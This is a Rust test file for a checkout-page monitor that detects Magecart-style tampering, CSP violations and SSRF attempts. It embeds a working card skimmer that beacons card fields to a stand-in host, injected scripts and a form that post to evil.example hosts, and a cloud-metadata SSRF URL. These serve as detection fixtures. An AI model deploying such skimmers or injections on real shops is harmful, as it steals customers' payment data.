//! The checkout-page monitor through the HTTP API, on both backends: a local
//! web server serves a generated checkout page; the test registers it,
//! authorises its scripts, then tampers with it (a new external script, a
//! changed inline script, a form posting to another host, a weakened CSP)
//! and each tampering is found with its severity while the clean page raises
//! nothing. CSP reports in both formats become alerts once per destination.
//! One headless-Chromium test sees a script inserted at run time.

use std::sync::{Arc, Mutex};

use axum::http::{HeaderMap, HeaderValue, Method, StatusCode};
use serde_json::{Value, json};

use crate::harness::{TestApp, both_backends};

const CSP: &str =
    "default-src 'self'; script-src 'self' https://js.psp.example; form-action 'self' https://psp.example";

fn checkout_page() -> String {
    r#"<!doctype html><html><head><title>Checkout</title>
<script src="/js/shop.js" integrity="sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC"></script>
<script src="https://js.psp.example/v3/checkout.js"></script>
<script>window.shopConfig = {currency: "JPY"};</script>
</head><body>
<form action="/order/confirm" method="post"><input name="name"><button>Confirm</button></form>
<iframe src="https://psp.example/card-frame"></iframe>
</body></html>"#
        .to_owned()
}

/// What the test web server answers; the test changes it to tamper.
#[derive(Clone)]
pub struct Site {
    page: Arc<Mutex<(String, String)>>,
    loader: Arc<Mutex<String>>,
}

impl Site {
    fn set(&self, html: String, csp: &str) {
        *self.page.lock().expect("lock") = (html, csp.to_owned());
    }
}

/// Serves the checkout page at `/checkout` and `/js/loader.js` on loopback.
pub async fn serve_site(html: String, loader: &str) -> (Site, String) {
    let site = Site {
        page: Arc::new(Mutex::new((html, CSP.to_owned()))),
        loader: Arc::new(Mutex::new(loader.to_owned())),
    };
    let (page, js) = (site.page.clone(), site.loader.clone());
    let app = axum::Router::new()
        .route(
            "/checkout",
            axum::routing::get(move || {
                let page = page.clone();
                async move {
                    let (html, csp) = page.lock().expect("lock").clone();
                    let mut headers = HeaderMap::new();
                    headers.insert(
                        "content-type",
                        HeaderValue::from_static("text/html; charset=utf-8"),
                    );
                    headers.insert(
                        "content-security-policy",
                        HeaderValue::from_str(&csp).expect("csp"),
                    );
                    (headers, html)
                }
            }),
        )
        .route(
            "/js/loader.js",
            axum::routing::get(move || {
                let js = js.clone();
                async move {
                    let body = js.lock().expect("lock").clone();
                    ([("content-type", "text/javascript")], body)
                }
            }),
        )
        .route(
            "/js/{name}",
            axum::routing::get(|| async { ([("content-type", "text/javascript")], "void 0;") }),
        );
    let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0))
        .await
        .expect("bind");
    let addr = listener.local_addr().expect("addr");
    tokio::spawn(async move { axum::serve(listener, app).await });
    (site, format!("http://{addr}"))
}

async fn register(app: &TestApp, tenant: &str, url: &str, mode: &str) -> Value {
    let (status, page) = app
        .call(
            Method::POST,
            "/v1/pages",
            Some(&app.operator_key),
            Some(
                json!({"tenant_id": tenant, "name": "Checkout / 決済", "url": url, "mode": mode,
                        "form_hosts": ["psp.example"]}),
            ),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{page}");
    page
}

async fn check(app: &TestApp, page_id: &str) -> Value {
    let (status, result) = app
        .call(
            Method::POST,
            &format!("/v1/pages/{page_id}/check"),
            Some(&app.operator_key),
            None,
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{result}");
    assert_eq!(result["status"], "ok", "{result}");
    result
}

/// A card skimmer of the Magecart kind: on submit, the card fields go to
/// another origin in an image beacon.
const SKIMMER: &str = "document.addEventListener('submit', function () {\n\
          var d = ['card_number', 'security_code'].map(function (n) { return document.getElementsByName(n)[0].value; });\n\
          new Image().src = 'https://jquery-cdn-cloud.example/pixel.gif?d=' + btoa(d.join('|'));\n\
        }, true);\n";

/// `script` was fetched: the 33 bytes `serve_site` starts the loader with, hashed.
fn assert_fetched_and_hashed(script: &Value) {
    assert_eq!(script["length"], 33, "{script}");
    assert!(
        script["sha384"]
            .as_str()
            .is_some_and(|h| h.starts_with("sha384-")),
        "{script}"
    );
}

/// The check after [`SKIMMER`] replaced an authorised script's body at the
/// same address: a critical change, and the signature that names it.
fn assert_skimmer_swapped_in(result: &Value) {
    let found = kinds(result);
    assert!(
        found.contains(&("page_script_changed".to_owned(), "critical".to_owned())),
        "{result}"
    );
    assert!(
        found.iter().any(|(kind, _)| kind == "page_script_signature"),
        "{result}"
    );
    let lines = result["findings"].to_string();
    assert!(lines.contains("skimmer.card-exfiltration"), "{lines}");
}

fn kinds(result: &Value) -> Vec<(String, String)> {
    result["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|f| {
            (
                f["kind"].as_str().unwrap_or("").to_owned(),
                f["severity"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect()
}

async fn authorise_all(app: &TestApp, page_id: &str, result: &Value) {
    for script in result["inventory"]["scripts"].as_array().expect("scripts") {
        let (status, view) = app
            .call(
                Method::POST,
                &format!("/v1/pages/{page_id}/scripts"),
                Some(&app.operator_key),
                Some(json!({"script": script["key"], "justification": "needed for checkout / 決済に必要"})),
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{view}");
    }
}

async fn alerts(app: &TestApp) -> Vec<Value> {
    let (status, list) = app
        .call(Method::GET, "/v1/alerts", Some(&app.operator_key), None)
        .await;
    assert_eq!(status, StatusCode::OK, "{list}");
    list["alerts"].as_array().cloned().unwrap_or_default()
}

async fn total_web_shop_2025_each_checkout_page_tampering_is_detected_and_a_clean_page_raises_nothing(
    app: TestApp,
) {
    let (tenant, _, _) = app.tenant_with_shop("Page monitor shop").await;
    let (site, base) = serve_site(checkout_page(), "").await;
    let page = register(&app, &tenant, &format!("{base}/checkout"), "http").await;
    let id = page["id"].as_str().expect("id").to_owned();
    assert_eq!(page["interval_s"], 3600);

    // First run: the inventory, every script awaiting authorisation.
    let first = check(&app, &id).await;
    assert_eq!(
        kinds(&first),
        vec![("page_script_unauthorised".to_owned(), "medium".to_owned()); 3],
        "{first}"
    );
    let scripts = first["inventory"]["scripts"].as_array().expect("scripts");
    assert_eq!(scripts[0]["integrity"].as_str().map(|s| &s[..7]), Some("sha384-"));
    assert_eq!(scripts[1]["host"], "js.psp.example");
    assert!(
        scripts[2]["key"]
            .as_str()
            .expect("key")
            .starts_with("inline:sha256-")
    );
    assert_eq!(
        first["inventory"]["forms"][0]["action"],
        format!("{base}/order/confirm")
    );
    assert_eq!(first["inventory"]["iframes"][0], "https://psp.example/card-frame");
    authorise_all(&app, &id, &first).await;
    let (_, view) = app
        .call(
            Method::GET,
            &format!("/v1/pages/{id}"),
            Some(&app.operator_key),
            None,
        )
        .await;
    assert!(
        view["scripts"]
            .as_array()
            .expect("scripts")
            .iter()
            .all(|s| s["authorised"] == true),
        "{view}"
    );

    // The clean page, authorised: nothing.
    let before = alerts(&app).await.len();
    assert!(kinds(&check(&app, &id).await).is_empty());
    assert_eq!(alerts(&app).await.len(), before, "the clean page raised an alert");

    let tamperings: [(String, &str, &str, &str); 4] = [
        (
            checkout_page().replace(
                "</head>",
                "<script src=\"https://cdn.evil.example/jquery.min.js\"></script></head>",
            ),
            CSP,
            "page_script_added",
            "critical",
        ),
        (
            checkout_page().replace(
                "currency: \"JPY\"",
                "currency: \"JPY\"}; fetch('https://evil.example/c', {method: 'POST'}",
            ),
            CSP,
            "page_script_changed",
            "critical",
        ),
        (
            checkout_page().replace(
                "action=\"/order/confirm\"",
                "action=\"https://collect.evil.example/pay\"",
            ),
            CSP,
            "page_form_action_unknown",
            "critical",
        ),
        (
            checkout_page(),
            "default-src 'self'; script-src 'self' 'unsafe-inline' https:; form-action *",
            "page_header_weakened",
            "high",
        ),
    ];
    for (html, csp, kind, severity) in tamperings {
        site.set(html, csp);
        let result = check(&app, &id).await;
        assert_eq!(
            kinds(&result),
            vec![(kind.to_owned(), severity.to_owned())],
            "{result}"
        );
        assert_eq!(result["findings"][0]["alerted"], true);
        let raised: Vec<Value> = alerts(&app)
            .await
            .into_iter()
            .filter(|a| a["kind"] == kind)
            .collect();
        assert_eq!(raised.len(), 1, "{kind}");
        assert_eq!(raised[0]["tenant_id"], tenant.as_str());
        assert_eq!(raised[0]["severity"], severity);
        // The difference is in the alert.
        let summary = raised[0]["summary"].as_str().expect("summary");
        assert!(summary.contains(&id) && summary.lines().count() >= 2, "{summary}");
        // Back to the clean page: nothing more.
        site.set(checkout_page(), CSP);
        assert!(
            kinds(&check(&app, &id).await).is_empty(),
            "{kind}: restoring raised something"
        );
    }
    let summaries: Vec<String> = alerts(&app)
        .await
        .iter()
        .map(|a| a["summary"].as_str().unwrap_or("").to_owned())
        .collect();
    assert!(
        summaries
            .iter()
            .any(|s| s.contains("+ https://cdn.evil.example/jquery.min.js (no integrity attribute)"))
    );
    assert!(
        summaries
            .iter()
            .any(|s| s.contains("script-src now allows 'unsafe-inline'"))
    );

    // A page that cannot be inventoried (here a 404) is reported as such.
    let (status, slow) = app
        .call(
            Method::POST,
            "/v1/pages",
            Some(&app.operator_key),
            Some(json!({"tenant_id": tenant, "name": "slow", "url": format!("{base}/missing")})),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED);
    let (_, result) = app
        .call(
            Method::POST,
            &format!("/v1/pages/{}/check", slow["id"].as_str().expect("id")),
            Some(&app.operator_key),
            None,
        )
        .await;
    assert_eq!(result["status"], "page_status", "{result}");
    assert!(
        alerts(&app)
            .await
            .iter()
            .any(|a| a["kind"] == "page_fetch_failed")
    );

    // Registration and authorisation are audited.
    let kinds_logged: Vec<String> = app
        .audit_log()
        .await
        .iter()
        .map(|e| e["event"].as_str().unwrap_or("").to_owned())
        .collect();
    assert!(
        kinds_logged.iter().any(|k| k == "page.register"),
        "{kinds_logged:?}"
    );
    assert!(kinds_logged.iter().any(|k| k == "page.script_authorise"));
}

/// PCI DSS 11.6.1 for third-party scripts: the monitor fetches each external
/// script's body, so a script changed at the same address (the Magecart
/// pattern: a compromised CDN or vendor) is found by its hash, and a skimmer
/// in it by the built-in signatures, although the page's HTML is the same.
async fn a_script_changed_at_the_same_address_is_found_by_its_hash_and_signatures(app: TestApp) {
    let (tenant, _, _) = app.tenant_with_shop("Script hash shop").await;
    let html = "<!doctype html><html><head><script src=\"/js/loader.js\"></script></head><body>\
                <form action=\"/order/confirm\" method=\"post\"></form></body></html>"
        .to_owned();
    let (site, base) = serve_site(html, "window.shop = {currency: 'JPY'};\n").await;
    let page = register(&app, &tenant, &format!("{base}/checkout"), "http").await;
    let id = page["id"].as_str().expect("id").to_owned();
    let first = check(&app, &id).await;
    assert_fetched_and_hashed(&first["inventory"]["scripts"][0]);
    authorise_all(&app, &id, &first).await;
    assert!(kinds(&check(&app, &id).await).is_empty());

    *site.loader.lock().expect("lock") = format!("window.shop = {{currency: 'JPY'}};\n{SKIMMER}");
    let result = check(&app, &id).await;
    assert_skimmer_swapped_in(&result);
    // The signature alert is in the alert list once, however often the page is checked.
    check(&app, &id).await;
    let raised: Vec<Value> = alerts(&app)
        .await
        .into_iter()
        .filter(|a| a["kind"] == "page_script_signature")
        .collect();
    assert_eq!(raised.len(), 1, "{raised:?}");

    // An authorised script that is merely updated: a change, no signature.
    *site.loader.lock().expect("lock") = "window.shop = {currency: 'USD'};\n".to_owned();
    let result = check(&app, &id).await;
    assert_eq!(
        kinds(&result),
        vec![("page_script_changed".to_owned(), "critical".to_owned())],
        "{result}"
    );
}

/// The monitor refuses private, loopback and metadata addresses unless
/// their network is allowed (the harness allows loopback for the tests).
async fn a_page_on_a_private_address_is_refused_by_default(app: TestApp) {
    let (tenant, _, _) = app.tenant_with_shop("SSRF shop").await;
    let (_, base) = serve_site(checkout_page(), "").await;
    app.app.allow_page_networks(Vec::new());
    for url in [
        format!("{base}/checkout"),
        "http://169.254.169.254/latest/meta-data/".to_owned(),
    ] {
        let page = register(&app, &tenant, &url, "http").await;
        let (status, result) = app
            .call(
                Method::POST,
                &format!("/v1/pages/{}/check", page["id"].as_str().expect("id")),
                Some(&app.operator_key),
                None,
            )
            .await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(result["status"], "page_address_denied", "{result}");
        assert!(result["inventory"].is_null());
    }
    assert!(alerts(&app).await.iter().any(|a| {
        a["kind"] == "page_fetch_failed"
            && a["summary"]
                .as_str()
                .is_some_and(|s| s.contains("page_address_denied"))
    }));
}

async fn bad_registrations_are_refused_and_pages_are_tenant_scoped(app: TestApp) {
    let (tenant, _, _) = app.tenant_with_shop("Scoped shop").await;
    let (other, _, _) = app.tenant_with_shop("Other shop").await;
    for (body, code) in [
        (
            json!({"tenant_id": tenant, "name": "x", "url": "ftp://shop.example/"}),
            "invalid_url",
        ),
        (
            json!({"tenant_id": tenant, "name": "x", "url": "https://u:p@shop.example/"}),
            "invalid_url",
        ),
        (
            json!({"tenant_id": tenant, "name": "x", "url": "https://shop.example/", "interval_s": 2_000_000}),
            "invalid_interval",
        ),
        (
            json!({"tenant_id": tenant, "name": "", "url": "https://shop.example/"}),
            "invalid_name",
        ),
        (
            json!({"tenant_id": tenant, "name": "x", "url": "https://shop.example/", "form_hosts": ["a b"]}),
            "invalid_form_host",
        ),
    ] {
        let (status, err) = app
            .call(Method::POST, "/v1/pages", Some(&app.operator_key), Some(body))
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{err}");
        assert_eq!(err["error"]["code"], code);
    }
    let page = register(&app, &tenant, "https://shop.example/checkout", "http").await;
    let other_key = app.key("operator", &other, None).await;
    let (status, _) = app
        .call(
            Method::GET,
            &format!("/v1/pages/{}", page["id"].as_str().expect("id")),
            Some(&other_key),
            None,
        )
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, list) = app.call(Method::GET, "/v1/pages", Some(&other_key), None).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(list["pages"].as_array().map(Vec::len), Some(0));
    let shop_key = app
        .key("shop", &tenant, Some(&app.shop(&tenant, "s2").await))
        .await;
    let (status, _) = app.call(Method::GET, "/v1/pages", Some(&shop_key), None).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
}

async fn csp_reports_alert_once_per_new_destination(app: TestApp) {
    let (tenant, _, _) = app.tenant_with_shop("CSP shop").await;
    let page = register(&app, &tenant, "https://shop.example/checkout", "http").await;
    let path = page["csp_report_path"].as_str().expect("path").to_owned();
    let legacy = r#"{"csp-report":{"document-uri":"https://shop.example/checkout","blocked-uri":"https://evil.example/c.gif?cc=4111111111111111","effective-directive":"img-src","violated-directive":"img-src 'self'","original-policy":"img-src 'self'","disposition":"enforce"}}"#;
    let (status, body) = app
        .post_raw_from("203.0.113.7", &path, legacy, "application/csp-report")
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT, "{body}");
    let (status, _) = app
        .post_raw_from("203.0.113.8", &path, legacy, "application/csp-report")
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let reporting = r#"[{"type":"csp-violation","age":1,"url":"https://shop.example/checkout","body":{"documentURL":"https://shop.example/checkout","blockedURL":"https://skimmer.example/x.js","effectiveDirective":"script-src-elem","disposition":"enforce"}}]"#;
    let (status, _) = app
        .post_raw_from("203.0.113.9", &path, reporting, "application/reports+json")
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let csp: Vec<Value> = alerts(&app)
        .await
        .into_iter()
        .filter(|a| a["kind"] == "csp_new_destination")
        .collect();
    assert_eq!(csp.len(), 2, "{csp:?}");
    let text = serde_json::to_string(&csp).expect("json");
    assert!(text.contains("https://evil.example") && text.contains("https://skimmer.example"));
    assert!(
        !text.contains("4111111111111111"),
        "the blocked URL's query was kept"
    );
    assert!(csp.iter().any(|a| a["severity"] == "high") && csp.iter().any(|a| a["severity"] == "medium"));

    let (status, err) = app
        .post_raw_from("203.0.113.7", &path, "{", "application/csp-report")
        .await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (StatusCode::BAD_REQUEST, Some("invalid_csp_report"))
    );
    let (status, _) = app
        .post_raw_from("203.0.113.7", &path, legacy, "text/plain")
        .await;
    assert_eq!(status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
    let (status, _) = app
        .post_raw_from(
            "203.0.113.7",
            "/v1/csp-reports/cspk_unknown",
            legacy,
            "application/csp-report",
        )
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let huge = format!(
        "{{\"csp-report\":{{\"blocked-uri\":\"{}\"}}}}",
        "a".repeat(70_000)
    );
    let (status, _) = app
        .post_raw_from("203.0.113.10", &path, &huge, "application/csp-report")
        .await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    // One client: 60 a minute, then 429.
    let mut last = StatusCode::OK;
    for _ in 0..61 {
        (last, _) = app
            .post_raw_from("198.51.100.1", &path, legacy, "application/csp-report")
            .await;
    }
    assert_eq!(last, StatusCode::TOO_MANY_REQUESTS);
}

/// `anshin serve`'s scheduler: a new page is due at once, one round checks
/// it and moves it an interval ahead, so the next round leaves it alone; with
/// a webhook configured its alerts are queued for delivery.
async fn due_pages_are_checked_once_per_interval_and_alerts_queued(app: TestApp) {
    let (tenant, _, _) = app.tenant_with_shop("Scheduled shop").await;
    let (_site, base) = serve_site(checkout_page(), "").await;
    let page = register(&app, &tenant, &format!("{base}/checkout"), "http").await;
    app.app.queue_alerts_for_webhook(true);
    assert_eq!(app.app.check_due_pages().await.expect("round"), 1);
    assert_eq!(
        app.app.check_due_pages().await.expect("round"),
        0,
        "checked again before its interval"
    );
    let (_, view) = app
        .call(
            Method::GET,
            &format!("/v1/pages/{}", page["id"].as_str().expect("id")),
            Some(&app.operator_key),
            None,
        )
        .await;
    assert_eq!(view["last_status"], "ok");
    assert_eq!(view["scripts"].as_array().map(Vec::len), Some(3));
    let raised = alerts(&app).await;
    assert_eq!(raised.len(), 3, "{raised:?}");
    assert!(
        raised.iter().all(|a| a["delivery"]["state"] == "pending"),
        "{raised:?}"
    );
}

/// `POST /v1/integrity/alerts`: the host tool's alerts, checked and stored once.
async fn host_integrity_alerts_are_stored_once(app: TestApp) {
    let (tenant, _, _) = app.tenant_with_shop("Host shop").await;
    let alert = json!({"schema": "anshin-integrity-alert/1", "id": "ial_0123456789abcdef01234567",
        "kind": "signature", "severity": "critical", "detected_at": "2026-12-06T00:00:00Z",
        "host": "shop-web-1", "root": "/var/www/eccube", "path": "html/upload/save_image/x.php",
        "rule": "php.webshell", "line": 3, "message_en": "web shell", "message_ja": "ウェブシェル"});
    for expected in [1, 0] {
        let (status, answer) = app
            .call(
                Method::POST,
                "/v1/integrity/alerts",
                Some(&app.operator_key),
                Some(json!({"tenant_id": tenant, "alerts": [alert]})),
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{answer}");
        assert_eq!(answer, json!({"received": 1, "raised": expected}));
    }
    let stored: Vec<Value> = alerts(&app)
        .await
        .into_iter()
        .filter(|a| a["kind"] == "host_integrity")
        .collect();
    assert_eq!(stored.len(), 1);
    assert_eq!(stored[0]["severity"], "critical");
    assert!(
        stored[0]["summary"]
            .as_str()
            .expect("summary")
            .contains("x.php: web shell [php.webshell]")
    );
    let mut bad = alert.clone();
    bad["id"] = json!("not-an-id");
    let (status, err) = app
        .call(
            Method::POST,
            "/v1/integrity/alerts",
            Some(&app.operator_key),
            Some(json!({"tenant_id": tenant, "alerts": [bad]})),
        )
        .await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("invalid_integrity_alert"))
    );
}

both_backends!(
    host_integrity_alerts_are_stored_once,
    due_pages_are_checked_once_per_interval_and_alerts_queued,
    total_web_shop_2025_each_checkout_page_tampering_is_detected_and_a_clean_page_raises_nothing,
    bad_registrations_are_refused_and_pages_are_tenant_scoped,
    csp_reports_alert_once_per_new_destination,
    a_script_changed_at_the_same_address_is_found_by_its_hash_and_signatures,
    a_page_on_a_private_address_is_refused_by_default,
);

/// Headless Chromium sees the script `/js/loader.js` inserts after load, and
/// a change of what it inserts is a new script although the HTML is the same.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn browser_mode_sees_scripts_inserted_at_run_time() {
    let app = TestApp::new(crate::harness::Backend::Sqlite)
        .await
        .expect("sqlite");
    let (tenant, _, _) = app.tenant_with_shop("Browser shop").await;
    let inserter = |name: &str| {
        format!(
            "var s = document.createElement('script'); s.src = '/js/{name}'; document.head.appendChild(s);"
        )
    };
    let html = "<!doctype html><html><head><script src=\"/js/loader.js\"></script></head><body>\
                <form action=\"/order/confirm\" method=\"post\"></form></body></html>"
        .to_owned();
    let (site, base) = serve_site(html, &inserter("analytics.js")).await;
    let page = register(&app, &tenant, &format!("{base}/checkout"), "browser").await;
    let id = page["id"].as_str().expect("id").to_owned();
    let first = check(&app, &id).await;
    let scripts = first["inventory"]["scripts"].as_array().expect("scripts").clone();
    let runtime: Vec<&Value> = scripts.iter().filter(|s| s["runtime"] == true).collect();
    assert_eq!(runtime.len(), 1, "{scripts:?}");
    assert_eq!(runtime[0]["src"], format!("{base}/js/analytics.js"));
    authorise_all(&app, &id, &first).await;
    assert!(kinds(&check(&app, &id).await).is_empty());

    *site.loader.lock().expect("lock") = inserter("skim.js");
    let result = check(&app, &id).await;
    // The loader itself changed at the same address (its body's hash), and what it inserts is new.
    assert_eq!(
        kinds(&result),
        vec![
            ("page_script_changed".to_owned(), "critical".to_owned()),
            ("page_script_added".to_owned(), "critical".to_owned())
        ],
        "{result}"
    );
    let line = result["findings"][1]["lines"][0].as_str().expect("line");
    assert!(
        line.contains("/js/skim.js") && line.contains("inserted at run time"),
        "{line}"
    );
}

/// A script inserted at run time is fetched and hashed like one the HTML
/// names, so a skimmer swapped in behind the same address (a compromised tag
/// manager's payload, never named in the page) is found by its hash and the
/// skimmer signatures although neither the HTML nor the inserting code changed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn browser_mode_finds_a_run_time_script_changed_at_the_same_address() {
    let app = TestApp::new(crate::harness::Backend::Sqlite)
        .await
        .expect("sqlite");
    let (tenant, _, _) = app.tenant_with_shop("Browser hash shop").await;
    let html = "<!doctype html><html><head><script>var s = document.createElement('script'); \
                s.src = '/js/loader.js'; document.head.appendChild(s);</script></head><body>\
                <form action=\"/order/confirm\" method=\"post\"></form></body></html>"
        .to_owned();
    let (site, base) = serve_site(html.clone(), "window.shop = {currency: 'JPY'};\n").await;
    // The tag-manager snippet is inline, so the page's policy must let it run.
    site.set(html, "default-src 'self'; script-src 'self' 'unsafe-inline'");
    let page = register(&app, &tenant, &format!("{base}/checkout"), "browser").await;
    let id = page["id"].as_str().expect("id").to_owned();
    let first = check(&app, &id).await;
    let scripts = first["inventory"]["scripts"].as_array().expect("scripts").clone();
    let inserted = scripts
        .iter()
        .find(|s| s["runtime"] == true)
        .unwrap_or_else(|| panic!("no run-time script: {scripts:?}"));
    assert_eq!(inserted["src"], format!("{base}/js/loader.js"));
    assert_fetched_and_hashed(inserted);
    authorise_all(&app, &id, &first).await;
    assert!(kinds(&check(&app, &id).await).is_empty());

    *site.loader.lock().expect("lock") = SKIMMER.to_owned();
    assert_skimmer_swapped_in(&check(&app, &id).await);
}

/// Browser mode's SSRF guard: Chromium reaches the network only through the
/// monitor's proxy, so a script the page pulls from a network that is not
/// allowed never runs. The page (on 127.0.0.1) inserts a loader from
/// 127.0.0.2, and the loader inserts `/js/analytics.js`: with all of loopback
/// allowed the analytics script is seen; with only 127.0.0.1 it is not, as
/// the loader was refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn browser_mode_reaches_only_allowed_networks() {
    let app = TestApp::new(crate::harness::Backend::Sqlite)
        .await
        .expect("sqlite");
    let (tenant, _, _) = app.tenant_with_shop("Browser SSRF shop").await;
    let other = tokio::net::TcpListener::bind(("127.0.0.2", 0))
        .await
        .expect("bind 127.0.0.2");
    let other_addr = other.local_addr().expect("addr");
    let loader = axum::Router::new().route(
        "/js/loader.js",
        axum::routing::get(|| async {
            (
                [("content-type", "text/javascript")],
                "var s = document.createElement('script'); s.src = '/js/analytics.js'; document.head.appendChild(s);",
            )
        }),
    );
    tokio::spawn(async move { axum::serve(other, loader).await });
    let html = format!(
        "<!doctype html><html><head><script>var s = document.createElement('script'); \
         s.src = 'http://{other_addr}/js/loader.js'; document.head.appendChild(s);</script></head></html>"
    );
    let (site, base) = serve_site(html.clone(), "").await;
    // A policy that lets the page load scripts from anywhere: only the monitor's guard stops them.
    site.set(html, "script-src * 'unsafe-inline'");
    let page = register(&app, &tenant, &format!("{base}/checkout"), "browser").await;
    let id = page["id"].as_str().expect("id").to_owned();
    let runtime = |result: &Value| -> Vec<String> {
        result["inventory"]["scripts"]
            .as_array()
            .expect("scripts")
            .iter()
            .filter(|s| s["runtime"] == true)
            .filter_map(|s| s["src"].as_str().map(str::to_owned))
            .collect()
    };
    let analytics = format!("{base}/js/analytics.js");
    let open = runtime(&check(&app, &id).await);
    assert!(
        open.contains(&analytics),
        "the loader ran with loopback allowed: {open:?}"
    );

    let own = anshin::access::cidr::Cidr::parse("127.0.0.1/32").expect("cidr");
    app.app.allow_page_networks(vec![own]);
    let guarded = runtime(&check(&app, &id).await);
    assert!(
        !guarded.contains(&analytics),
        "a script from 127.0.0.2 ran: {guarded:?}"
    );
}
